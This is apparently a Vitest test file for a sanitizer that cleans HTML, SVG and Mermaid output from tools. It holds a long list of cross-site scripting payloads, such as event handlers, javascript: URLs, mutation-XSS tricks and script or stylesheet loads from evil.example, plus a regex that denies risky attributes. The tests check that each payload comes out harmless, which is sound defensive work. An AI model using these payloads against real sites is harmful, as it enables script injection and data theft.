import { describe, expect, test } from 'vitest';
import { checkFormat } from '../../runtime/tools/result/formats.ts';
import { HTML_ELEMENTS, SVG_ELEMENTS } from '../../runtime/tools/result/markup-names.ts';
import { toolsRuntime } from '../support/tools-runtime.ts';
import { verifies } from '../support/verifies.ts';

verifies('RS-09', 'RS-07', 'PM-23');

const html = (text: string): string => checkFormat(text, 'html', 'it');
const svg = (text: string): string => checkFormat(text, 'svg', 'it');
const KNOWN = new Set([...HTML_ELEMENTS, ...SVG_ELEMENTS]);

/** Every tag of what comes out is one that we write, with quoted attributes; nothing in it could run or load. */
function expectSafe(out: string): void {
  const rest = out.replace(
    /<\/?([A-Za-z0-9]+)((?: [\w:-]+="[^"<>`]*")*)>/g,
    (whole, name: string, attributes: string) => {
      expect([whole, KNOWN.has(name)]).toEqual([whole, true]);
      for (const [, attribute = '', value = ''] of attributes.matchAll(/ ([\w:-]+)="([^"]*)"/g)) {
        expect(attribute).not.toMatch(
          /^(?:on|srcdoc|srcset|formaction|action|xlink$|data|ping|background|poster|name$|target|is$|slot)/i,
        );
        if (/^(?:href|xlink:href|cite)$/.test(attribute))
          expect(value).toMatch(/^(?:#out-|https?:\/\/|mailto:)/i);
        if (attribute === 'src') expect(value).toMatch(/^data:image\/(?:png|jpeg|gif|webp);base64,/);
        if (attribute === 'style')
          expect(value).not.toMatch(/position|@|\\|expression|behavior|url\((?!#out-)/i);
      }
      return '';
    },
  );
  expect(rest).not.toMatch(/[<>]/);
}

const ATTACKS = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT >after',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)" /></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><set attributeName=onmouseover to=alert(1) /></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x" /><use href="https://evil.example/a.svg#x" /></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  '<svg><style>*{background:url(//evil.example)}</style><image href=//evil.example/a.png /></svg>',
  '<svg><desc><img src=x onerror=alert(1)></desc><title><style></title><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href="https://a.example/&#10;x">x</a>',
  '<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">y</a>',
  '<a href=`javascript:alert(1)`>x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=x></object><embed src=x><applet></applet><base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)"><link rel=stylesheet href=//evil.example>',
  '<form action=javascript:alert(1)><input type=submit><button formaction=javascript:alert(1)>go</button></form>',
  '<div style="position:fixed;top:0;background:url(//evil.example/x);color:red;width:expression(alert(1))">x</div>',
  '<div style="color:\\65xpression(alert(1));background-color:/**/url(x)">x</div>',
  '<p style="fill:url(#a);stroke:url(https://evil.example/#a);mask:url( \'#b\' )">x</p>',
  '<img src="https://evil.example/pixel.png"><img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:image/png;base64,AAAA" onload=alert(1) srcset="x 1x">',
  '<x onclick=alert(1)>y</x><p/onclick=alert(1)>z</p/>',
  '<p title="a"onclick="alert(1)">x',
  '<p title=\'"onclick="alert(1)\'>x',
  '<p class=a/onclick=alert(1)>x',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?x <img src=x onerror=alert(1)>?>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<p id="location" name="cookie">clobbers</p>',
  '<%00script>alert(1)</script><\u0000script>alert(1)</script>',
  '<img src=x onerror=alert(1)//',
  '<div\u2028onclick=alert(1)>x</div>',
  '<table><tr><td background=javascript:alert(1)>x</table>',
  '<details open ontoggle=alert(1)><summary>s</summary>',
  '<a href="#x" target=_blank ping=//evil.example>x</a>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><option><img src=x onerror=alert(1)></select>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
];

test.each(ATTACKS.map((attack) => [attack]))('%s does nothing', (attack) => {
  expectSafe(html(attack));
  expectSafe(html(`<p>before</p>${attack}<p>after</p>`));
  expectSafe(svg(`<svg viewBox="0 0 1 1">${attack}</svg>`));
});

test('pieces of attacks in any order do nothing', () => {
  const pieces = ATTACKS.flatMap((attack) => attack.split(/(?=[<>"'/= ])/));
  let state = 7;
  const next = (): number => {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    return state;
  };
  for (let round = 0; round < 1_500; round++) {
    const text = Array.from({ length: 1 + (next() % 25) }, () => pieces[next() % pieces.length]).join('');
    expectSafe(html(text));
    expectSafe(svg(`<svg>${text}`));
  }
});

test('text, tables and pictures stay', () => {
  expect(html('<h1>A &amp; B</h1><p>1 < 2 & <b>bold<i>er</p><ul><li>x</ul>')).toBe(
    '<h1>A &amp; B</h1><p>1 &lt; 2 &amp; <b>bold<i>er</i></b></p><ul><li>x</li></ul>',
  );
  expect(html('<img src=x onerror=alert(1)>text<script>gone()</script> stays')).toBe('<img>text stays');
  expect(html('<a href="https://example.com/?a=1&b=2#c">x</a><td colspan=2>y')).toBe(
    '<a href="https://example.com/?a=1&amp;b=2#c" rel="noopener noreferrer nofollow">x</a><td colspan="2">y</td>',
  );
  const chart =
    '<svg viewBox="0 0 9 9"><defs><linearGradient id="g"><stop offset="0" stop-color="red"></stop></linearGradient></defs><path d="M0 0L9 9" fill="url(#out-g)" style="stroke: blue"></path></svg>';
  expect(svg(chart.replace('out-g', 'g').replace('stroke: blue', 'stroke:blue'))).toBe(
    chart.replace('id="g"', 'id="out-g"'),
  );
  expect(html(`<p>chart</p>${chart.replace('out-g', 'g')}<p>end</p>`)).toContain('</svg><p>end</p>');
  expect(html('\u001b[31mred\u001b[0m\u0007')).toBe('red');
});

test('each character is looked at once, whatever it is', () => {
  for (const piece of ['<', '<!--', '<a href="', '<p ', '</', '&#', '<svg>', '<script>', "<a b='"]) {
    const text = piece.repeat(200_000);
    expectSafe(html(text));
  }
});

describe('formats', () => {
  const call = async (format: string, answer: unknown) => {
    const { runtime } = toolsRuntime();
    runtime.tools.register(
      { name: 'it', description: 'x', text: { format: format as 'html' } },
      { trusted: true, run: () => answer },
    );
    return runtime.tools.call('it');
  };

  test('the value is safe where the text is', verifies('RS-09'), async () => {
    expect(await call('html', '<p onclick=x()>a</p>')).toMatchObject({
      ok: true,
      value: '<p>a</p>',
      text: '<p>a</p>',
    });
    const parts = {
      content: [{ type: 'text', text: '<svg onload="x()"><script>y()</script><path d="M0 0"/></svg>' }],
    };
    const made = await call('svg', parts);
    const { text } = made;
    expect(made).toMatchObject({ ok: true, value: text });
    expect(text).toMatch(/^<svg.*<path/s);
    expect(text).not.toMatch(/onload|script/);
    expect(await call('svg', 'no picture')).toMatchObject({ ok: false, error: { code: 'OUTPUT_INVALID' } });
    expect(await call('json', '{"a":')).toMatchObject({ ok: false, error: { code: 'OUTPUT_INVALID' } });
    expect(await call('json', { a: 1 })).toMatchObject({ ok: true, value: { a: 1 }, text: '{"a":1}' });
    expect(await call('mermaid', 'hello')).toMatchObject({ ok: false, error: { code: 'OUTPUT_INVALID' } });
  });

  test('a diagram can neither be clicked nor configured nor show markup', verifies('RS-09'), async () => {
    const given = `%%{init: {"securityLevel": "loose"}}%%
flowchart TD
  A["<img src=x onerror=alert(1)>Start<br/>here"] --> B; click A "javascript:alert(1)"
  B <--> C;   click B callback
  click C href "https://evil.example"
  C --> D`;
    expect(await call('mermaid', given)).toMatchObject({
      ok: true,
      text: `flowchart TD
  B <--> C
  C --> D`,
    });
    const { text } = await call('mermaid', given.replace('; click A "javascript:alert(1)"', ''));
    expect(text).toContain('A["Start<br/>here"] --> B');
  });

  test('what is checked has a size', verifies('RS-08'), async () => {
    const most = 10 * 1024 * 1024;
    expect(checkFormat('a'.repeat(most), 'html', 'it')).toHaveLength(most);
    expect(() => checkFormat('a'.repeat(most + 1), 'html', 'it')).toThrow(
      expect.objectContaining({ code: 'OUTPUT_EXCEEDED' }),
    );
  });
});
